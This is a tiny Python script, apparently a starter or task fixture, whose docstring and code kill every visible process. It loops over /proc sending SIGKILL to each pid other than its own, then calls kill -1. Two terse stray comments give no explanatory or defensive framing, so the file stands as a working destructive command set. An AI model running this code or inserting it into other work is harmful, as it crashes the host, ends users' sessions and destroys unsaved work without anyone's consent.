"""Sends SIGKILL to every process it can see (every pid in /proc, then kill -1): only itself survives, untouched."""
# says: no such process|where to start
import os
import signal

for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
# @starter
